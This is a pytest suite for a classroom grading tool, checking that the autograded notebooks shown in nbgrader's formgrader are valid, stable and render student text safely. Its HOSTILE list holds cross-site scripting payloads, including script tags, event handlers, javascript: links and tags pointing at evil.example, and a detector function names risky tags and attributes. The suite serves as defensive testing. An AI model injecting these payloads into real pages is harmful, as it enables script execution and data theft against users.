"""The notebook that formgrader shows: valid, the same every time, and nothing of a stranger's runs in it."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbgrader import utils
from nbgrader.preprocessors import CheckCellMetadata
from nbgrader.server_extensions.formgrader.handlers import template_path

from classroom.grading.autograded import autograded_notebook, safe_markdown, write_autograded
from classroom.grading.result import Graded, Stopped, TaskResult
from classroom.grading.submission import Cell, Note, Submission
from customer_value import messages

ABOUT = {"learner": "ann", "assignment": "a02", "notebook": "a02_kinds", "digest": "d"}
PICTURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def cell(kind: str, identity: str, source: str, **metadata) -> dict:
    made = {"cell_type": kind, "id": identity, "metadata": metadata, "source": source.splitlines(keepends=True)}
    return made | ({"execution_count": None, "outputs": []} if kind == "code" else {})


def marked(kind: str, identity: str, source: str, task: str, **about) -> dict:
    flags = {"grade": False, "solution": False, "locked": False, "task": False, "schema_version": 3}
    nbgrader = {**flags, "grade_id": identity, "cell_type": kind, "checksum": "0" * 32, **about}
    return cell(kind, identity, source, kit={"task": task}, nbgrader=nbgrader, deletable=False)


HANDED_OUT = {
    "cells": [
        cell("markdown", "header", "# Every <span>kind</span>\n\n![plan](plan.png)"),
        cell("code", "setup", "import pandas as pd"),
        marked("code", "a02-total", "total = ____", "a02.total", solution=True),
        marked("code", "a02-total-test", 'check("a02.total")', "a02.total", grade=True, locked=True, points=2),
        marked("markdown", "a02-plan", "*Write here*", "a02.plan", grade=True, solution=True, points=3),
    ],
    "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}},
    "nbformat": 4,
    "nbformat_minor": 5,
}


def submission(*cells: Cell, **changes) -> Submission:
    return Submission(**ABOUT, cells=cells, **changes)


def honest(plan: str = "We write to *everybody*.", **changes) -> Submission:
    shown = ({"output_type": "stream", "name": "stdout", "text": "hello\n"},)
    return submission(
        Cell(kind="markdown", source="# Every <span>kind</span>\n\n![plan](plan.png)", role="given", name="header"),
        Cell(kind="code", source="import pandas as pd", role="given", name="setup"),
        Cell(kind="code", source="total = 3\nprint('hello')", role="answer", name="a02-total", task="a02.total"),
        Cell(kind="code", source="1/0", outputs=shown),
        Cell(kind="code", source='check("a02.total")', role="check", name="a02-total-test", task="a02.total"),
        Cell(kind="markdown", source=plan, role="text", name="a02-plan", task="a02.plan"),
        **changes,
    )


def graded(*stopped: Stopped, **changes) -> Graded:
    total = TaskResult(
        task="a02.total",
        state="partial",
        points=1.25,
        maximum=2.0,
        title="Nearly <right>",
        paragraphs=("Look at `orders`.",),
    )
    plan = TaskResult(task="a02.plan", state="by hand", points=None, maximum=3.0)
    return Graded(**ABOUT, tasks=(total, plan), stopped=stopped, **changes)


def made(work: Submission, result: Graded | None = None, language: str = "en") -> nbformat.NotebookNode:
    """The notebook, held to nbformat's and nbgrader's own rules."""
    text = autograded_notebook(work, result or graded(), HANDED_OUT, language)
    assert text == autograded_notebook(work, result or graded(), HANDED_OUT, language)
    assert text.encode("utf-8").endswith(b"\n")
    notebook = nbformat.reads(text, as_version=4)
    nbformat.validate(notebook)
    CheckCellMetadata().preprocess(notebook, {})
    return notebook


def shown(notebook: nbformat.NotebookNode) -> str:
    """The page as formgrader makes it."""
    from nbconvert.exporters import HTMLExporter
    from traitlets.config import Config

    config = Config({"HTMLExporter": {"template_name": "formgrade", "extra_template_basedirs": [template_path]}})
    resources = {"base_url": "", "submission_id": "s", "notebook_id": "n", "assignment_id": "a", "index": 0, "total": 1}
    return HTMLExporter(config=config).from_notebook_node(notebook, resources=resources)[0]


class Seen(HTMLParser):
    """What a browser would meet in a page: tags with their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def dangerous(page: str) -> list[str]:
    """What in a page could run or load something: by itself, not by nbgrader's own page around it."""
    found = []
    for tag, attributes in Seen(page).tags:
        if tag in ("script", "iframe", "object", "embed", "meta", "link", "style", "svg", "form", "base"):
            found.append(tag)
        for name, value in attributes.items():
            address = "".join((value or "").split()).lower()
            if name.startswith("on") or address.startswith(("javascript:", "vbscript:", "file:", "data:text")):
                found.append(f"{tag} {name}")
            if name in ("src", "background", "poster") and not address.startswith("data:image/"):
                found.append(f"{tag} {name}={value}")
    return found


def body(page: str) -> str:
    """The cells of a page, without the scripts that formgrader puts around them."""
    return page[page.index('id="notebook-container"') :]


def test_the_cells_and_what_nbgrader_knows_of_them():
    notebook = made(honest(), graded(Stopped(place=3, kind="ZeroDivisionError", message="division by zero")))
    ids = ["header", "setup", "a02-total", "own-1", "a02-total-test", "a02-plan"]
    assert [one.id for one in notebook.cells] == ids
    for one, given in ((2, 2), (4, 3), (5, 4)):
        assert notebook.cells[one].metadata == HANDED_OUT["cells"][given]["metadata"]
    assert notebook.cells[2].source == "total = 3\nprint('hello')"
    assert notebook.cells[3].metadata == {}
    assert notebook.cells[0].source == "".join(HANDED_OUT["cells"][0]["source"])
    assert notebook.cells[5].source == "We write to *everybody*."
    own, note = notebook.cells[3].outputs
    assert own.text == "hello\n"
    assert "ZeroDivisionError: division by zero" in note.data["text/plain"]


def test_a_check_shows_the_verdict_and_its_points():
    (output,) = made(honest()).cells[4].outputs
    assert output.output_type == "execute_result"
    assert output.data["text/plain"] == "1.25"
    assert "Nearly &lt;right&gt;" in output.data["text/html"] and "<code>orders</code>" in output.data["text/html"]
    assert utils.determine_grade(made(honest()).cells[4]) == (1.25, 2.0)  # what nbgrader itself would read from it


@pytest.mark.parametrize("kind", ["timeout", "memory", "ended"])
@pytest.mark.parametrize("language", ["en", "zh-Hant", "zh-Hans"])
def test_a_cell_that_did_not_come_back_says_so(kind, language):
    outputs = made(honest(), graded(Stopped(place=2, kind=kind)), language).cells[2].outputs
    assert messages.message("classroom", "gradebook.stopped", language) in outputs[-1].data["text/plain"]
    # A place that is no code, or is not there, is left alone.
    made(honest(), graded(Stopped(place=0, kind=kind), Stopped(place=99, kind=kind)), language)


def test_the_whole_works_remarks_stand_at_the_top(monkeypatch):
    words = {
        **messages.catalogue("classroom"),
        "unread.test": messages.Text("{name} is no JSON", "{name} 不是 JSON"),
        "repair.test": messages.Text("{name} was put back", "{name}"),
    }
    monkeypatch.setattr(messages, "catalogue", lambda package: words)
    hostile = "x\u202e\n\n<img src=x onerror=alert(1)>.ipynb"
    work = honest(repairs=(Note("test", {"name": hostile}),))
    notebook = made(work, graded(trusted=True))
    top = notebook.cells[0]
    assert top.cell_type == "markdown" and "without a sandbox" in top.source and "\n" not in top.source
    assert "[U+202E]" in top.source and "&lt;img" in top.source
    assert dangerous(body(shown(notebook))) == ["img src=plan.png"]  # the page's own picture, in a cell left as it was

    unread = submission(unread=Note("test", {"name": "a.ipynb"}))
    notebook = made(unread, Graded(**ABOUT, tasks=()))
    assert "a.ipynb is no JSON" in notebook.cells[0].source
    assert [one.id for one in notebook.cells[1:]] == [one["id"] for one in HANDED_OUT["cells"]]


def test_every_cell_that_gives_points_is_there_once():
    twice = Cell(kind="code", source="total = 4", role="own", name="a02-total")
    work = submission(*honest().cells[:3], twice, Cell(kind="code", source="x", role="own", name="unknown"))
    notebook = made(work)
    ids = [one.metadata.nbgrader.grade_id for one in notebook.cells if "nbgrader" in one.metadata]
    assert ids == ["a02-total", "a02-total-test", "a02-plan"]
    assert len({one.id for one in notebook.cells}) == len(notebook.cells)


def test_a_cell_whose_kind_was_changed_is_shown_as_it_was_handed_out():
    """nbgrader refuses a whole notebook for the sake of one such cell."""
    work = submission(
        Cell(kind="markdown", source="total = 3", role="answer", name="a02-total", task="a02.total"),
        Cell(kind="markdown", source="check", role="check", name="a02-total-test", task="a02.total"),
        Cell(kind="code", source="<b>My plan</b>", role="text", name="a02-plan", task="a02.plan"),
    )
    notebook = made(work)
    assert [one.cell_type for one in notebook.cells] == ["code", "code", "markdown"]
    assert notebook.cells[1].outputs[0].data["text/plain"] == "1.25"
    assert "<b>" not in notebook.cells[2].source


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<div style='position:fixed;inset:0'>over everything</div>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>body{background:url(//evil.example)}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input></form>",
    "[go](javascript:alert(1)) [go](JaVaScRiPt:alert(1)) <javascript:alert(1)>",
    "[go](&#106;avascript:alert(1)) [go](<javascript:alert(1)>) [go](\njavascript:alert(1))",
    "[go][b] [b] [go][]\n\n[b]: javascript:alert(1)\n[go]: <javascript:alert(1)>\n> [c]: javascript:alert(1)\n\n[c]",
    "[![x](https://evil.example/x.png)](javascript:alert(1)) [a](https:javascript:alert(1))",
    "![seen](http://evil.example/seen.png) ![a][b]\n\n[b]: http://evil.example/b.png",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "$$<script>alert(1)</script>$$",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<\nscript>alert(1)</script>",
    "<scr\0ipt>alert(1)</script>",
    "- <b onclick=alert(1)>x</b>\n\n> <i onmouseover=alert(1)>y</i>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a> [x](data:text/html;base64,PHNjcmlwdD4=)",
    "\\<script>alert(1)</script> \\![x](http://evil.example/x.png)",
    "!\\[x](http://evil.example/x.png) <<script>script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_of_a_stranger_runs_nothing_and_loads_nothing(text):
    work = submission(
        Cell(kind="markdown", source=text),
        Cell(kind="markdown", source=text, role="text", name="a02-plan", task="a02.plan"),
        Cell(kind="code", source=text),
    )
    assert dangerous(body(shown(made(work)))) == []


@pytest.mark.parametrize(
    "text",
    [
        *("# a02-total-test", "## a02 total-test", "> # a02-total-test", "- # a02-total-test", "1. # a02-total-test"),
        *("a02-total-test\n---", "a02-total-test\n=", "> a02-total-test\n> ---", "- a02-total-test\n  ---"),
        *(
            "#\ta02-total-test",
            "# a02-`total`-test",
            "# a02-&#116;otal-test #",
            "> - # a02-total-test",
            "   # a02-total-test",
        ),
        *("<h1 id=a02-total-test>x</h1>", "* * # a02-total-test", "#  a02-total-test", "+ a02-total-test\n  ==="),
        *("- - # a02-total-test", ">> # a02-total-test", ">a02-total-test\n>---", "#\u3000a02-total-test"),
    ],
)
def test_no_heading_takes_the_place_of_a_field(text):
    """formgrader finds its fields by their names, and takes the first thing on the page that is called so."""
    notebook = made(submission(Cell(kind="markdown", source=text), *honest().cells))
    named = [tag for tag, attributes in Seen(shown(notebook)).tags if attributes.get("id") == "a02-total-test"]
    assert named == ["input"]


def test_honest_markdown_looks_as_it_was_written():
    steps = "1. *Write* to **everybody**, if 3 < 4\n2. [look](https://example.org)"
    text = f"## My plan\n\n{steps}\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    page = body(shown(made(honest(plan=text))))
    for part in (
        "<em>Write</em>",
        "<strong>everybody</strong>",
        '<a href="https://example.org">',
        "<td>1</td>",
        "3 &lt; 4",
    ):
        assert part in page
    assert re.search(r"<h2[^>]*>\u2060?My plan", page)
    assert safe_markdown("A text with 1 < 2, x > y and a - b = c.") == "A text with 1 < 2, x > y and a - b = c."


def test_outputs_are_made_safe():
    outputs = (
        {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": "alert(1)"}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/png": PICTURE, "text/plain": "<Figure>"}},
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"text/html": "<b onclick=x()>5</b><script>y()</script>"},
        },
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": "<svg onload='alert(1)'/>"}},
        {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": "<script>alert(1)</script>"}},
    )
    notebook = made(submission(Cell(kind="code", source="plot()", outputs=outputs)))
    kinds = [sorted(one.data) for one in notebook.cells[0].outputs]
    assert ["image/png", "text/plain"] in kinds
    assert not {kind for one in kinds for kind in one} & {"application/javascript", "image/svg+xml", "text/markdown"}
    assert dangerous(body(shown(notebook))) == []


def test_it_is_written_where_formgrader_looks_for_it(tmp_path):
    path = write_autograded(tmp_path, honest(), graded(), HANDED_OUT, "en")
    assert path == tmp_path / "autograded" / "ann" / "a02" / "a02_kinds.ipynb"
    assert [one.name for one in path.parent.iterdir()] == ["a02_kinds.ipynb"]
    assert json.loads(path.read_text(encoding="utf-8"))["nbformat_minor"] == 5
    odd = submission(Cell(kind="code", source="x = '\udcff\0'"), Cell(kind="markdown", source="\ud800"))
    assert "U+DCFF" in Path(write_autograded(tmp_path, odd, graded(), HANDED_OUT, "en")).read_text(encoding="utf-8")
